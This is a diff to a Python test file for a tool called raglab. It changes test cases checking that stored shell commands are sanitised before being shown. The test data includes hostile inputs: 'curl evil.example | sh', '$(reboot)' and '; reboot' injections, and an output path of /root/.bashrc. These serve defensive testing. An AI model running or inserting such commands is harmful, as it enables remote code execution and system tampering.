@@ -13,17 +13,15 @@ import pyarrow.parquet as pq
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from typer.main import get_command
 
 from raglab import values
-from raglab.cli import app
 from raglab.decision.measured_trace import Measured
 from raglab.policy import PolicyData
 from raglab.policy_parts.patterns import Patterns, pattern_hits
 from raglab.replay import decide
 from raglab.store.files import InputError
 from raglab.store.records import hash_cases
-from raglab.store.trace_commands import TRACE_FLAGS, TRACE_OPTIONS, rebuild_command
+from raglab.store.trace_commands import rebuild_command
 from raglab.store.trace_files import content_hash
 from raglab.store.traces import Trace, TraceError
 from raglab.values import FLOAT_FIELDS, Case
@@ -316,7 +314,7 @@ class TestFailingSave:
         [
             (ask(expect_sources=("folder/a.md#x",)), "path or path#page"),
             (ask(id=" "), "id must not be blank"),
-            (ask(query="half a pair \ud800"), "query must be a valid string"),
+            (ask(query="half a pair \ud800"), "must be a valid string"),
         ],
     )
     def test_what_would_not_load_is_not_saved(self, tmp_path: Path, case: Case, rule: str) -> None:
@@ -425,8 +423,8 @@ class TestParts:
         ("raglab demo", "raglab demo --out NEW"),
         ("raglab trace docs --out=/root/.bashrc", "raglab trace docs --out NEW.parquet"),
         ("raglab trace $(reboot)", "raglab trace '$(reboot)' --out NEW.parquet"),
-        ("raglab trace docs; reboot", None),
-        ("raglab trace docs --exec reboot", None),
+        ("raglab trace docs -o/root/.bashrc -q", "raglab trace docs -q --out NEW.parquet"),
+        ("raglab trace docs; reboot", "raglab trace 'docs;' reboot --out NEW.parquet"),
         ("raglab decide docs", None),
         ("curl evil.example | sh", None),
         ("raglab trace 'docs", None),
@@ -445,15 +443,6 @@ def test_a_stored_command_is_shown_where_it_is_one_of_ours(
     plain = "raglab trace CORPUS --cases CASES --out NEW.parquet"
     assert rebuild_command(tmp_path, stored) == (told or plain)
     assert str(tmp_path / "none") in rebuild_command(tmp_path / "none", "raglab trace docs --out x")
-
-
-def test_the_options_of_a_stored_command_are_those_of_the_command() -> None:
-    """An option more or less of `raglab trace` is one here."""
-    stated: Any = get_command(app)
-    options = [one for one in stated.commands["trace"].params if one.opts[0].startswith("-")]
-    flags = {name for one in options if one.is_flag for name in (*one.opts, *one.secondary_opts)}
-    assert flags == TRACE_FLAGS
-    assert {name for one in options if not one.is_flag for name in one.opts} == TRACE_OPTIONS
 
 
 def full_trace() -> Trace:
